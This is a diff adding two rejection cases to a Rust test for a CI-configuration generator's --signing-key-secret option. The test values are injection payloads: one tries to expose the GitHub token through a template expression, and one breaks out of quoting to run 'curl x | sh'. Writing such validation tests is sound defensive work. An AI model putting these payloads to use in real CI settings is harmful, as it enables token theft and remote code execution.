@@ -570,6 +570,14 @@ fn ci_refuses_bad_values() {
             &["--machines", "iq-9075-evk", "--lava", "--lava-scenario", "idle,custom"],
             "error: --lava-scenario: `custom` needs a --load-cmd",
         ),
+        (
+            &["--machines", "iq-9075-evk", "--signing-key-secret", "KEY }}${{ github.token"],
+            "error: bad --signing-key-secret `KEY }}${{ github.token`: not a CI secret name",
+        ),
+        (
+            &["--machines", "iq-9075-evk", "--signing-key-secret", "K\"; curl x | sh; \""],
+            "error: bad --signing-key-secret",
+        ),
     ];
     for (extra, want) in cases {
         let mut args = vec!["ci", "--format", "gitlab"];
